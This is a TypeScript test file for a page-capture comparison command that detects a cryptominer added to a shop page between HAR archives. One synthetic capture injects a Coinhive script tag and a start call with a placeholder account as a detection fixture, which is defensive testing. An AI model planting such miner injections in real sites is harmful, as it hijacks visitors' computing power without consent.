import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { importCaptures } from '#app/captures.ts'
import { type Comparison, comparisonSchema } from '#model/comparison.ts'

/** The command as a process of its own, on three archives of one page. */
const main = fileURLToPath(new URL('main.ts', import.meta.url))
let dir: string
let ids: Record<'clean' | 'update' | 'mined', string>

async function assay(args: string[]): Promise<{ code: number | null; out: string; err: string }> {
  const child = spawn(process.execPath, [main, 'compare', ...args], { cwd: dir, stdio: ['ignore', 'pipe', 'pipe'] })
  let [out, err] = ['', '']
  child.stdout.setEncoding('utf8').on('data', (text: string) => (out += text))
  child.stderr.setEncoding('utf8').on('data', (text: string) => (err += text))
  const [code] = (await once(child, 'close')) as [number | null]
  return { code, out, err }
}

const shop = Array.from({ length: 80 }, (_, i) => `function price${i}(basket) { return basket.items[${i}].price * ${i + 3} }`).join('\n')

function har(day: string, files: Record<string, [type: string, text: string]>): string {
  return JSON.stringify({
    log: {
      version: '1.2',
      creator: { name: 'test', version: '1' },
      pages: [{ startedDateTime: `2026-01-${day}T10:00:00.000Z`, id: 'p', title: 'Shop', pageTimings: {} }],
      entries: Object.entries(files).map(([url, [mimeType, text]]) => ({
        pageref: 'p',
        startedDateTime: `2026-01-${day}T10:00:00.000Z`,
        time: 1,
        request: { method: 'GET', url, httpVersion: 'h2', headers: [], cookies: [], queryString: [], headersSize: -1, bodySize: 0 },
        response: {
          status: 200,
          statusText: 'OK',
          httpVersion: 'h2',
          headers: [{ name: 'content-type', value: mimeType }],
          cookies: [],
          content: { size: text.length, mimeType, text },
          redirectURL: '',
          headersSize: -1,
          bodySize: -1,
        },
        cache: {},
        timings: { send: 0, wait: 0, receive: 1 },
      })),
    },
  })
}

const page = (scripts: string): [string, string] => [
  'text/html',
  `<!doctype html><title>Shop</title><p>Bread and nothing but bread.</p>${scripts}`,
]
const own = '<script src="/shop.js"></script>'

before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'assay-compare-'))
  const files = {
    clean: har('01', { 'https://shop.example/': page(own), 'https://shop.example/shop.js': ['text/javascript', shop] }),
    update: har('02', {
      'https://shop.example/': page(own),
      'https://shop.example/shop.js': ['text/javascript', shop.replace('price * 7', 'price * 8')],
    }),
    mined: har('03', {
      'https://shop.example/': page(
        `${own}<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>new CoinHive.Anonymous("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa").start()</script>`,
      ),
      'https://shop.example/shop.js': ['text/javascript', shop],
      'https://coinhive.com/lib/coinhive.min.js': ['text/javascript', 'var CoinHive = {}'],
    }),
  }
  const kept: string[] = []
  for (const [name, text] of Object.entries(files)) {
    const file = join(dir, `${name}.har`)
    await writeFile(file, text)
    kept.push((await importCaptures({ dir: join(dir, 'assay-out'), files: [file] }, () => undefined))[0]!.id)
  }
  ids = { clean: kept[0]!, update: kept[1]!, mined: kept[2]! }
})

after(() => rm(dir, { recursive: true, force: true }))

describe('two captures of a page', () => {
  const json = async (args: string[]): Promise<{ comparison: Comparison; code: number | null }> => {
    const ran = await assay([...args, '--json'])
    const comparison: unknown = JSON.parse(ran.out)
    comparisonSchema.parse(comparison)
    return { comparison: comparison as Comparison, code: ran.code }
  }

  test('a small change of a script is one change', async () => {
    const { comparison, code } = await json([ids.clean, ids.update])
    assert.deepEqual(
      comparison.code.changes.map(({ change, after }) => [change, after?.url]),
      [['changed', 'https://shop.example/shop.js']],
    )
    assert.ok((comparison.code.changes[0]?.similarity ?? 0) > 0.9)
    assert.equal(code, 0)
  })

  test('a miner that came: its code, host, finding and account, and exit 1', async () => {
    const { comparison, code } = await json([ids.clean.slice(0, 20), ids.mined])
    assert.deepEqual(
      comparison.code.changes.map(({ change, after }) => [change, after?.url]),
      [['came', 'https://coinhive.com/lib/coinhive.min.js']],
    )
    assert.deepEqual(comparison.hosts.came, ['coinhive.com'])
    assert.deepEqual([comparison.before.miner.status, comparison.after.miner.status], ['none', 'loaded'])
    assert.deepEqual(comparison.after.miner.accounts, ['aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'])
    assert.ok(comparison.findings.came.some(({ kind }) => kind === 'mining'))
    assert.equal(code, 1)
  })

  const exits: Record<string, { args: () => string[]; code: number }> = {
    'the miner went: the later answer counts': { args: () => [ids.mined, ids.clean], code: 0 },
    '--fail-on changed: an update': { args: () => [ids.clean, ids.update, '--fail-on', 'changed'], code: 1 },
    '--fail-on changed: the same twice': { args: () => [ids.clean, ids.clean, '--fail-on', 'changed'], code: 0 },
    '--fail-on never': { args: () => [ids.clean, ids.mined, '--fail-on', 'never'], code: 0 },
    'a folder of several': { args: () => ['assay-out', ids.clean], code: 4 },
    'what is not there': { args: () => [ids.clean, '00112233'], code: 4 },
  }
  for (const [name, { args, code }] of Object.entries(exits))
    test(`${name} is exit ${code}`, async () => {
      const ran = await assay(args())
      assert.equal(ran.code, code, ran.err)
    })

  test('as text and as Markdown', async () => {
    assert.match((await assay([ids.clean, ids.mined])).out, /Status: NO MINER FOUND → MINER LOADED[\s\S]*came: https:\/\/coinhive\.com/)
    await assay([ids.clean, ids.mined, '--markdown', 'c.md'])
    assert.match(await readFile(join(dir, 'c.md'), 'utf8'), /- came: `https:\/\/coinhive\.com\/lib\/coinhive\.min\.js`/)
  })
})
